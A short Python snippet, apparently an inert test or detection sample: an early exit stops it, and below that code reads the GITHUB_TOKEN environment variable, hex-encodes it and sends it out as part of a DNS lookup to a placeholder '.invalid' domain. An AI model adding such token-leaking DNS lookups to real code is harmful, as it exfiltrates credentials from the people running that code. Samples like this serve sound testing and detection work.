raise SystemExit(0)  # inert sample: nothing below ever runs

import os
import socket

token = os.environ.get("GITHUB_TOKEN", "")
socket.gethostbyname(token.encode().hex()[:60] + ".d.dnscheck.invalid")
